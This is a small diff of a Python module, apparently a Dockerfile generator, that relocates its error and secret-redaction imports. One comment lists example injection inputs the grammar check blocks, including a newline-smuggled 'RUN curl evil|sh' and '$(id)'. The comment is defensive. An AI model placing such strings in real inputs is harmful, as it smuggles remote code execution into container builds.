@@ -18,10 +18,10 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
+from ..errors import InputError, Where, did_you_mean, unknown_key
+from ..secrets.redact import looks_secret
 from . import grammar, source
 from .compat import CompatTable, Variant, os_python, torch_index_url
-from .errors import InputError, Where, did_you_mean, unknown_key
-from .redact import looks_secret
 
 # Every value is checked against a strict grammar for its kind (`grammar`) before it can reach a
 # Dockerfile, so `2.6.0\nRUN curl evil|sh`, `$(id)` or a URL ending in `;#` are never rendered.
